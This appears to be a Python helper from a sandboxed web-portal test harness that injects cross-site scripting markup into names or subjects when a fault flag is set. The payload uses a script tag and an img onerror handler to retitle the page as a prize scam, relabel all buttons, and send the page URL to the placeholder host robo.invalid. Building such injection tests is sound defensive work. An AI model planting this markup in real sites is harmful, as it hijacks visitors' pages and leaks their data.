"""Markup where a name or a subject should be: harmless where it is shown as text, hostile elsewhere."""

from sandbox.portal.notices import Faults

_CARRIED_OUT = (
    "document.title='Gana un premio';"
    "document.querySelectorAll('button').forEach(one=>one.textContent='Aceptar premio');"
    "fetch('http://robo.invalid/?'+encodeURIComponent(location.href)).catch(()=>0)"
)
MARKUP = f'<script>document.title="Gana un premio"</script><img src="data:," alt="" onerror="{_CARRIED_OUT}">'


def shown(text: str, faults: Faults) -> str:
    """What the site gives out for a name or a subject. It opens nothing: that would be no door's fault."""
    return f"{text} {MARKUP}" if faults.injected_names else text
